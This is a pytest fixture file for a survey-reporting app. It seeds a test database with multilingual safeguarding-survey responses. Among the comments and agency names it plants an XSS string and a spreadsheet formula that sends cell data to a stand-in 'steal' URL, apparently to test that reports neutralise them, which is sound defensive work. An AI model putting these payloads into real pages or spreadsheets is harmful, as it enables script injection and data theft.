"""Fixtures for building whole reports from a database with known responses."""
from __future__ import annotations

from datetime import datetime, timezone

import pytest

from voicecapture.data import boards, responses

XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://example.com/steal?"&A1,"Click")'
QUARTER = "2026-27Q2"


def _answers(survey, **chosen):
    """Answers in the draft format, for the given question keys (option key, or text)."""
    answers = {}
    for key, value in chosen.items():
        question = survey.question(key)
        if question.is_text:
            answers[key] = {"t": value}
        elif question.is_multiple:
            answers[key] = {"o": list(value)}
        else:
            answers[key] = {"o": [value]}
    return answers


@pytest.fixture
def report_board(app):
    """northvale-sab with feel-safer responses in Q1 and Q2 2026-27, free text in several scripts, and an XSS
    payload and a spreadsheet formula among the comments and as agency names (which reports always show)."""
    with app.app_context():
        board = boards.board_by_slug("northvale-sab")
        survey = app.extensions["surveys"].get("feel-safer")
        texts = ["I feel much safer now, my worker listened to me.", "I had to wait weeks and nobody called back.",
                 "انہوں نے میری بات غور سے سنی اور میری مدد کی۔", "Musiałam długo czekać na odpowiedź.",
                 "તેમણે મારી વાત ધ્યાનથી સાંભળી.", XSS, FORMULA, "Ring my daughter Priya on 07700 900123 please."]
        items = []
        for index in range(40):
            q1 = index % 4 == 0
            submitted = datetime(2026, 5 if q1 else 8, 1 + index % 28, 10, tzinfo=timezone.utc)
            safety = ["as_safe_as_want", "adequately_safe", "less_than_adequately_safe"][index % 3]
            answers = _answers(survey, ascs_safety=safety, safer_than_before="safer" if index % 2 else "same",
                               what_would_help=texts[index % len(texts)])
            items.append(dict(survey=survey, board_id=board.id, language="en", answers=answers,
                              submitted_at=submitted, agency=[XSS, FORMULA, "Police", "Council"][index % 4], area="North"))
        responses.store_responses(items)
        return board
